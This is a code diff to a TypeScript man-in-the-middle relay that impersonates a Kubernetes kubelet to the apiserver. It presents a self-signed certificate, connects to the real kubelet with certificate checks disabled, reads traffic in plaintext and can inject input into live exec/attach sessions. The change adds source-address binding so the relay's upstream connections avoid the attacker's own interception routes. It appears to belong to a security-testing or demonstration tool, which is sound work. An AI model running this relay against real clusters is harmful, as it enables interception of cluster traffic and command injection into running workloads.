@@ -2,7 +2,7 @@
 // certificate, dials the real kubelet without checking its certificate, relays both ways, reads everything in
 // plaintext and can type into a live exec/attach session. An apiserver with --kubelet-certificate-authority
 // refuses its certificate, and it learns nothing.
-import { isIP, type AddressInfo, type Socket } from 'node:net';
+import { connect as netConnect, isIP, type AddressInfo, type Socket } from 'node:net';
 import { connect as tlsConnect, createServer, type TLSSocket } from 'node:tls';
 import type { Duplex } from 'node:stream';
 import { createSelfSignedServingCert } from '@hubspoke/pki';
@@ -16,8 +16,11 @@ import { Opcode } from './websocket-frames.ts';
 export interface MitmOptions {
   /** The address the victim kubelet advertises (its Node's InternalIP) and the kubelet port. */
   listen: { host: string; port: number };
-  /** The real kubelet. */
-  upstream: { host: string; port: number };
+  /**
+   * The real kubelet; `localAddress` binds the relay's own connections to a source address (across hosts, one
+   * that policy routing sends to the node rather than back into the attacker's own interception routes).
+   */
+  upstream: { host: string; port: number; localAddress?: string };
   /** The certificate shown to the apiserver; default a fresh self-signed one for `listen.host`. */
   certificate?: { cert: string; key: string };
   logger?: Logger;
@@ -77,8 +80,7 @@ export async function startMitm(options: MitmOptions): Promise<Mitm> {
     const from = `${client.remoteAddress}:${client.remotePort}`;
     client.pause(); // nothing moves until the kubelet side is up
     const upstream = tlsConnect({
-      host: options.upstream.host,
-      port: options.upstream.port,
+      socket: netConnect({ host: options.upstream.host, port: options.upstream.port, localAddress: options.upstream.localAddress }),
       servername: isIP(options.upstream.host) ? undefined : options.upstream.host,
       rejectUnauthorized: false, // the attacker trusts anyone: it only wants the bytes
       ALPNProtocols: ['http/1.1'],
